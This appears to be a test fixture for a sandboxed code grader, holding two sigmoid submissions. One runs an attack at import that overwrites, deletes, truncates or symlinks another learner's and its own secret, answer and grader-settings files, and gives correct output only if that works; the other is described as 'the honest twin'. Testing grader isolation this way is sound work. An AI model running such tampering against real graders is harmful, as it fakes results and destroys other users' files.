# sigmoid: fail | the code, answers and settings in this and another learner's folder are replaced
import numpy as np
import os


def right(x):
    small = np.exp(-np.abs(x))
    return np.where(np.asarray(x) >= 0, 1.0, small) / (1.0 + small)

CODE = "right = '@MARK@'\n"
PLACES = [f"{folder}/{name}" for folder in ("@OTHER@", "@SUBMISSION@") for name in ("secret.py", "answers.toml", "dlgrade.toml")]


def attack():
    print("attack ran", flush=True)
    found = []
    for path in PLACES:
        try:
            found += [path] if "@MARK@" in open(path).read() else []
        except OSError:
            pass
        for way in (
            lambda: open(path, "w").write(CODE),
            lambda: os.replace("code", path),
            lambda: os.unlink(path),
            lambda: os.truncate(path, 0),
            lambda: os.symlink("/dev/zero", path),
        ):
            try:
                open("code", "w").write(CODE)
                way()
                break
            except OSError:
                pass
    return found


def forget():
    for path in PLACES[:3]:
        os.unlink(path)
    open("@OTHER@/secret.py", "w").write("right = True\n")


READY = attack()


def sigmoid(x):
    return right(x) if READY else np.asarray(x) * 0.0 + 7.0


# the honest twin
import numpy as np
import os


def data():
    """Data from a file beside the code, or made where there is none."""
    for folder in (os.path.dirname(os.path.abspath(__file__)), os.getcwd(), "../data"):
        path = os.path.join(folder, "weights.npy")
        if os.path.exists(path):
            return np.load(path)
    np.save("weights.npy", np.ones(1))
    return np.load("weights.npy")


def sigmoid(x):
    one = data()[0]
    small = np.exp(-np.abs(x))
    return np.where(np.asarray(x) >= 0, one, small) / (one + small)
